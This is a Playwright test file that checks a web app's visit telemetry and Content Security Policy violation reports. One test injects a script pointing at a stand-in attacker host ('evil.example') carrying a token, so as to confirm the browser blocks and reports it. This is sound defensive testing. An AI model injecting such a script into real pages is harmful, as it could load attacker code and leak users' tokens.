import { chromium, type Page } from "@playwright/test";
import { type PageReport, readPageReport } from "#core/merchant/index.ts";
import { readPolicyReports } from "#server/edge/policy-reports.ts";
import { findBrowser } from "#tools/browser.ts";
import { expectLoggedIn, logIn } from "./identity-steps.ts";
import { ports } from "./ports.ts";
import { leave, type SentReport, startReportProxy } from "./report-proxy.ts";
import { expect, home, open, test } from "./support.ts";

/** What pages tell the edge of a visit. */

const sent: SentReport[] = [];
let stopProxy: () => Promise<void>;
test.use({ ignoreHTTPSErrors: true });

test.beforeAll(async () => {
  stopProxy = await startReportProxy(ports.site, ports.reports, (report) => sent.push(report));
});
test.afterAll(() => stopProxy());
test.beforeEach(() => {
  sent.length = 0;
});

const at = (path: string) => home("lotus", path, ports.reports).replace("http:", "https:");

const isOfPage = ({ type }: SentReport) => type.startsWith("text/plain");

const pageReports = (): readonly PageReport[] =>
  sent.filter(isOfPage).flatMap(({ body }) => readPageReport(body) ?? []);

/** How often something was reported in all reports. */
const counted = (kind: keyof NonNullable<PageReport["counts"]>): number =>
  pageReports().reduce((sum, { counts }) => sum + (counts?.[kind] ?? 0), 0);

/** The names that the page itself has of its revision and build. */
const namesOf = (page: Page) =>
  page.evaluate(() => {
    const { record, build } = JSON.parse(document.getElementById("livery-data")?.textContent ?? "");
    return { revision: String(record.revision), build: String(build) };
  });

test("a visit is reported: its start, its first screen, a log-in, a plugin's error, the largest paint and the slowest tap", async ({
  page,
}) => {
  await page.route("**/m/plugins/login/line-*.js", (route) => route.abort());
  await open(page, at("/m/login?kw=secret"));
  const names = await namesOf(page);
  // By itself, once the page is idle.
  await expect.poll(() => counted("first-screen")).toBe(1);
  await logIn(page, "player");
  await expectLoggedIn(page, "player");
  expect(counted("login-done")).toBe(0);
  await leave(page);
  await expect.poll(() => counted("login-done")).toBe(1);

  expect([counted("start"), counted("first-screen"), counted("login-tried")]).toEqual([1, 1, 1]);
  const reports = pageReports();
  expect(reports.map(({ revision, build }) => ({ revision, build }))).toEqual(reports.map(() => names));
  const errors = reports.flatMap((report) => report.errors ?? []);
  expect(errors).toContainEqual({ code: "load", plugin: "login/line", screen: "login" });
  expect(reports.flatMap(({ lcp }) => lcp ?? [])).toEqual([
    { ms: expect.any(Number), screen: "login", element: expect.stringMatching(/^[a-z0-9]+$/) },
  ]);
  expect(reports.at(-1)?.inp?.screen).toBe("login");
  expect(sent.map(({ status }) => status)).toEqual(sent.map(() => 204));
  expect(JSON.stringify(sent)).not.toMatch(/secret|player|token/);
});

test("a visit that ends with its first screen is reported as it ends", { tag: "@full" }, async ({ page }) => {
  await page.addInitScript(() => {
    const leaveAtFirstScreen = (marks: PerformanceObserverEntryList) => {
      if (marks.getEntriesByName("first-screen").length === 0) return;
      Object.defineProperty(document, "visibilityState", { get: () => "hidden" });
      document.dispatchEvent(new Event("visibilitychange", { bubbles: true }));
    };
    new PerformanceObserver(leaveAtFirstScreen).observe({ type: "mark" });
  });
  // A home would wait for a person.
  await page.goto(at("/m/news"));
  await expect.poll(() => counted("first-screen")).toBe(1);
  expect(pageReports()).toEqual([expect.objectContaining({ counts: { start: 1, "first-screen": 1 } })]);
});

test("a page whose start script is broken reports nothing", { tag: "@full" }, async ({ page, context }) => {
  const broken = { contentType: "text/javascript", body: "throw new Error('broken')" };
  await page.route("**/m/assets/start-*.js", (route) => route.fulfill(broken));
  await page.goto(at("/m/news"));
  await expect(page.locator("#splash").getByRole("button")).toBeVisible();
  await leave(page);
  // What comes later is another page's.
  await open(await context.newPage(), at("/m/login"));
  await expect.poll(() => counted("first-screen")).toBe(1);
  expect(counted("start")).toBe(1);
});

test("a violation of the policy is reported by the browser itself, with the revision", { tag: "@full" }, async ({
  launchOptions,
}) => {
  // The headless one sends none, and the other collects them for a minute.
  const args = [...(launchOptions.args ?? []), "--short-reporting-delay"];
  const browser = await chromium.launch({ ...launchOptions, executablePath: await findBrowser(), args });
  try {
    const page = await browser.newPage({ ignoreHTTPSErrors: true });
    await open(page, at("/m/login"));
    const { revision } = await namesOf(page);
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.src = "https://evil.example/x.js?token=secret";
      document.body.append(script);
    });
    const ofBrowser = () => sent.filter((one) => !isOfPage(one));
    const violations = () => ofBrowser().flatMap(({ body }) => readPolicyReports(body, "lotus.localhost"));
    await expect.poll(violations).toContainEqual({ directive: "script-src-elem", blocked: "evil.example" });
    expect(ofBrowser().map(({ query, status }) => [query, status])).toEqual(
      ofBrowser().map(() => [`?revision=${revision}`, 204]),
    );
  } finally {
    await browser.close();
  }
});
